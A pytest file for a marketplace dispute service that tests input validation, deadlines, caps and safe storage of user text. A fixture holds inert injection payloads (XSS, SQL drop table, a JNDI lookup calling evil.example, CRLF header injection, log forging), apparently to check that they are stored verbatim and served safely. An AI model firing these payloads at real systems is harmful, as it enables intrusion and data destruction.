"""Words that can be read and must not be granted, or only with care: said over either door, answered alike, and the
next good word is heard."""

from collections.abc import Mapping
from datetime import timedelta
from typing import Any, Final

import pytest

from aftersales.contracts import tracking as parcels
from aftersales.contracts.envelope import MAX_AMOUNT
from aftersales.contracts.marketplace import Command, ComplaintMade, PlanChanged
from dispute.domain.reasons import REASONS
from tests.rules.dispute import builders as say
from tests.rules.dispute.builders import DAY, OPENED, SHIPPED
from tests.rules.dispute.world import MARKET
from tests.services.dispute.doors import Case, Doors, envelope
from tests.support.bad_input import BOTH, HTTP, KAFKA, covers, row, rows

pytestmark = [pytest.mark.asyncio(loop_scope="package")]
over_both = pytest.mark.parametrize("door", BOTH)


def complaint(case: Case, **differs: Any) -> ComplaintMade:
    return say.a_complaint(**{**case.names(ComplaintMade), **differs})


async def answered(town: Doors, door: str, said: Command, role: str = "buyer") -> tuple[int, dict[str, Any]]:
    """Status and body of what the speaker is told; over HTTP a problem's sentence under the name it has over Kafka."""
    if door == HTTP:
        answer = await town.ask(said, role=role, sub=said.by)
        told = answer.json()
        return (answer.status_code, {**told, "sentence": told.get("detail")})
    record = await town.say(said)
    await town.read(record)
    stored = await town.answer(record)
    return stored["status"], stored["body"]


REFUSED: Final[Mapping[int, Mapping[str, tuple[dict[str, Any], str, str]]]] = {
    12: {
        "zero": ({"want": say.refund(0)}, "amount-too-small", "at least 0.01 USD"),
    },
    35: {"a reason that is a place": ({"reason": "SNAD_etc_passwd"}, "unknown-reason", "Known are")},
    48: {
        "a unit it has not": ({"units": {"L1": (3,)}}, "no-such-unit", "units 1 to 2"),
        "a line it has not": ({"units": {"L9": (1,)}}, "no-such-unit", "no line L9"),
        "one unit twice": ({"units": {"L1": (1, 1)}}, "no-such-unit", "each disputed unit once"),
        "goods back that never came": (
            {"reason": "INR_LOST", "want": say.goods_back(5), "evidence": ()},
            "refund-only",
            "nothing to send back",
        ),
        "an unknown reason": ({"reason": "NO_SUCH"}, "unknown-reason", ", ".join(REASONS)),
        "a reason in lower case": ({"reason": "snad_quality"}, "unknown-reason", "SNAD_QUALITY"),
        "no evidence": ({"evidence": ()}, "evidence-needed", "Add one"),
    },
}


@covers(*REFUSED)
@over_both
@pytest.mark.parametrize("name", rows(REFUSED))
async def test_refused_in_words_and_the_good_one_granted(town: Doors, door: str, name: str) -> None:
    (differs, slug, why), case = row(REFUSED, name), Case()
    await town.places(case)
    status, told = await answered(town, door, complaint(case, **differs))
    assert (status, told["slug"], why in told["sentence"]) == (409, slug, True), told
    assert await town.states(case) == {}
    status, _ = await answered(town, door, complaint(case))
    assert status == (201 if door == HTTP else 200)


@covers(12)
@over_both
@pytest.mark.parametrize(("amount", "slug"), [(0, "amount-too-small"), (4199, "above-cap"), (MAX_AMOUNT, "above-cap")])
async def test_12_a_plan_outside_the_cap_is_refused(town: Doors, door: str, amount: int, slug: str) -> None:
    case = Case()
    await town.places(case)
    await town.hears(complaint(case))
    status, told = await answered(town, door, say.change(amount, **case.names(PlanChanged)))
    assert (status, told["slug"]) == (409, slug)
    assert [each["amount"] for each in await town.said(case) if "amount" in each] == [4198]
    status, told = await answered(town, door, say.change(4198, **case.names(PlanChanged)))
    assert (status, told["state"]) == (200, "AWAITING_SELLER")


@covers(17, over=[KAFKA])
@pytest.mark.parametrize("time", [b"2001-01-01T00:00:00Z", b"2999-01-01T00:00:00Z", b"yesterday"])
async def test_17_the_speakers_own_clock_decides_nothing(town: Doors, time: bytes) -> None:
    case = Case()
    await town.places(case)
    said = complaint(case)
    record = await town.publish(
        said.TOPIC, said.key.encode(), said.model_dump_json().encode(), [*envelope(said), ("ce_time", time)]
    )
    await town.read(record)
    assert (await town.answer(record))["body"]["deadline"] == "2025-05-06T09:00:00+00:00"


# Kept as they are, to the code point, and inert: nothing here looks inside.
TEXTS: Final = {
    30: {
        "script": "<script>alert(1)</script>",
        "image": '<img src=x onerror="alert(1)">',
        "link": "[click](javascript:alert(1)) ![x](https://evil.example/beacon.png)",
        "style": "</style><svg onload=alert(1)>",
    },
    31: {
        "SQL": "'; drop table orders; --",
        "templates": "{{7*7}} ${jndi:ldap://evil.example/x} <%= 7*7 %> %s %(x)s {0.__class__}",
        "a header": "torn\r\nSet-Cookie: admin=1",
        "a line of a log": '\n2025-05-01 [error] {"level":"critical"}',
    },
    34: {
        "a family": "👩\u200d👩\u200d👧 sehr schön",
        "right to left": "مرحبا، وصل مكسورًا",
        "Chinese": "收到的杯子是坏的" * 30,
        "marks": "e\u0301 Zażółć ngủ",
    },
}


@covers(*TEXTS)
@over_both
@pytest.mark.parametrize("name", rows(TEXTS))
async def test_what_people_write_is_kept_exactly(town: Doors, door: str, name: str) -> None:
    text, case = row(TEXTS, name), Case()
    await town.places(case)
    status, _ = await answered(town, door, complaint(case, words=text))
    assert status in (200, 201)
    read = await town.client.get(f"/disputes/{case.dispute}/statements", headers=town.bearer("seller", case.seller))
    assert [each["words"] for each in read.json()["items"]] == [text]
    assert (read.headers["Content-Type"], read.headers["X-Content-Type-Options"]) == ("application/json", "nosniff")
    assert "default-src 'none'" in read.headers["Content-Security-Policy"]


@covers(40)
async def test_40_one_name_of_two_speakers_is_two_words(town: Doors) -> None:
    cases = (Case(), Case())
    for case in cases:
        await town.places(case)
    answers = [
        await town.ask(complaint(cases[0]), role="buyer", sub="anna", key="the-same"),
        await town.ask(complaint(cases[1], by="anna"), role="service", sub=MARKET, key="the-same"),
    ]
    assert [answer.status_code for answer in answers] == [201, 201]
    third = Case()
    await town.places(third)
    record = await town.say(complaint(third), name="the-same-again")
    await town.read(record)
    assert (await town.answer(record))["status"] == 200


@covers(46)
@over_both
@pytest.mark.parametrize(
    ("early", "status"), [(timedelta(milliseconds=1), 200), (timedelta(0), 409), (timedelta(milliseconds=-1), 409)]
)
async def test_46_at_the_deadline_is_late_and_just_before_is_not(
    town: Doors, door: str, early: timedelta, status: int
) -> None:
    case = Case()
    await town.places(case)
    await town.hears(complaint(case))
    await town.at(OPENED + 5 * DAY - early)
    refusal = say.a_refusal(None, **{**case.names(PlanChanged), "by": case.seller})
    told = await answered(town, door, refusal, "seller")
    assert told[0] == status
    await town.settled(case)
    assert await town.states(case) == {case.dispute: "AWAITING_BUYER" if status == 200 else "REFUND_PENDING"}


@covers(47)
@over_both
async def test_47_who_sold_to_themselves_has_nobody_to_complain_of(town: Doors, door: str) -> None:
    case = Case()
    await town.at(OPENED)
    await town.hears(say.an_order(order=case.order, buyer="anna", seller="anna"), say.shipped(order=case.order))
    delivery = say.told(parcels.ParcelDelivered, "delivered", SHIPPED + DAY, order=case.order, seller="anna")
    await town.hears(delivery)
    status, told = await answered(town, door, complaint(case))
    assert (status, told["slug"]) == (409, "own-order")
    assert await town.states(case) == {}


@covers(49)
@over_both
async def test_49_a_dispute_is_decided_by_the_policy_its_order_was_placed_under(town: Doors, door: str) -> None:
    case = Case()
    await town.places(case)
    pinned = (await town.state_of(case))["terms"]["policy"]
    await town.at(OPENED + DAY)
    assert (await answered(town, door, complaint(case)))[0] in (200, 201)
    told = await town.pool.fetch(
        "select explanation->>'policy_version' as version from history where subject = 'order/' || $1 "
        "and event_type like '%complaint_made%'",
        case.order,
    )
    assert [row["version"] for row in told] == [pinned]
